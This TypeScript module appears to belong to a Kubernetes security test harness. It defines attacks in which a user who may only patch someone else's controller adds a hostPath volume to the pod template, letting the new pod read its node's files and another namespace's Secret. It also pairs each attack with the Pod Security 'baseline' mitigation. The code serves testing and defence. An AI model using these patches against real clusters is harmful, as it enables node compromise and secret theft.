import { list, pathOf, waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import { runNow } from "../../control-plane/time.ts";
import { ACCEPTED, Forbidden, type Attack } from "./attack.ts";
import { cronJobs, install, manifest, standing, type Controller } from "./controllers.ts";
import { harmless } from "./kubelet.ts";
import { HOST_PATH, lookAroundBy, settle, VIEW } from "./neighbour.ts";
import { enforce, podSecurity } from "./psa.ts";
import { nodeOf, type Stage } from "./stage.ts";

/** The kind that stands for all of them. */
export const DEPLOYMENT = standing.find(({ kind }) => kind === "Deployment")!;

/** What somebody else's controller is called. */
export const VICTIM = "victim";
const VOLUMES = [{ name: "node", ...HOST_PATH }];

/** Puts a controller of somebody else's there of which nothing runs. */
export function standsThere(stage: Stage, controller: Controller): Promise<void> {
  return install(stage, controller, manifest(controller, stage, VICTIM, harmless(stage), 0));
}

/** True where admission refused a pod of the controller; the event is all that it leaves behind. */
async function wasRefused({ plane, namespace }: Stage): Promise<boolean> {
  const { body } = await plane.request("GET", `/api/v1/namespaces/${namespace}/events`);
  return body.items.some(({ message }: Stored) => String(message).includes("violates PodSecurity"));
}

/** Has the template give its pods these volumes, as the attacker. */
export async function changeVolumes(stage: Stage, { kind }: Controller, volumes: readonly Stored[]): Promise<void> {
  const template = { spec: { volumes } };
  const replicas = kind === "DaemonSet" ? {} : { replicas: 1 };
  const spec = kind === "CronJob" ? { jobTemplate: { spec: { template } } } : { ...replicas, template };
  const contentType = "application/merge-patch+json";
  await stage.send("PATCH", pathOf(kind, stage.namespace, VICTIM), { spec }, { contentType });
}

/** Changes the template as the attacker so that its pods see their node, and waits for what the controller makes of it. */
export async function changeToNode(stage: Stage, controller: Controller): Promise<string> {
  const { kind } = controller;
  const { plane, namespace } = stage;
  await changeVolumes(stage, controller, VOLUMES);
  if (kind === "CronJob") await runNow(plane, namespace, VICTIM);
  const became = await waitFor(`a pod of the changed ${kind}`, async () => {
    const pods = await list(plane, "Pod", namespace, `app=${VICTIM}`);
    if (pods.some((pod) => pod["spec"].volumes?.some((one: Stored) => one["hostPath"] !== undefined))) return ACCEPTED;
    return (await wasRefused(stage)) ? "refused" : null;
  });
  if (became === "refused") throw new Forbidden(`the pod of the ${kind}`);
  return became;
}

const accepted: Attack[] = [...standing, cronJobs].map((controller) => ({
  edge: "controllers-patch-node",
  how: `patch of a ${controller.kind} that somebody else made: its pod sees the files of its node`,
  accepted: true,
  rights: (stage) => [stage.here("patch", controller.resource, VICTIM)],
  arrange: (stage) => standsThere(stage, controller),
  attack: (stage) => changeToNode(stage, controller),
  ends: {
    how: "the namespace is given a Pod Security level",
    by: async (stage) => {
      await enforce(stage, "baseline");
      await podSecurity(stage, "refuses");
    },
  },
}));

/** What keeps a pod of a Deployment, which must not say that it is never restarted. */
const ALWAYS = { restartPolicy: "Always" };

const carriedOut: Attack = {
  edge: "controllers-patch-node",
  how: "patch of a Deployment: its pod finds on its node the Secret of another namespace's pod",
  onRealNode: true,
  rights: (stage) => [stage.here("patch", DEPLOYMENT.resource, VICTIM)],
  arrange: async (stage) => {
    await settle(stage, stage.next);
    const pod = nodeOf(stage).spec({ ...ALWAYS, containers: [{ name: "main", command: ["sleep", "10000"] }] });
    await install(stage, DEPLOYMENT, manifest(DEPLOYMENT, stage, VICTIM, pod, 0));
  },
  attack: (stage) =>
    lookAroundBy(stage, "secrets", { container: VIEW, pod: { ...ALWAYS, volumes: VOLUMES } }, (spec) =>
      stage.send(
        "PATCH",
        pathOf(DEPLOYMENT.kind, stage.namespace, VICTIM),
        { spec: { replicas: 1, template: { spec } } },
        { contentType: "application/merge-patch+json" },
      ),
    ),
};

export const attacks: Attack[] = [...accepted, carriedOut];
